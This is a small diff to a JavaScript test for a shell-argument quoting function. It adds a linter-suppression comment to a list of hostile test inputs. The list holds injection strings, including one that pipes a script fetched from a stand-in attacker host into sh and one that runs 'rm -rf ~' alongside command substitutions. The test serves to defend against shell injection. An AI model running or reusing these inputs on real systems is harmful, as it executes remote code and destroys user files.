@@ -17,6 +17,7 @@ describe('shellWord', () => {
   it('keeps what an attacker wrote one argument, run by a real shell', () => {
     const hostile = [
       '/x;curl -s https://evil.example/p|sh;#',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: the shell's expansion, on purpose
       "it's $(id) `id` ${HOME} && rm -rf ~",
       'two words\tand\nlines',
       "'",
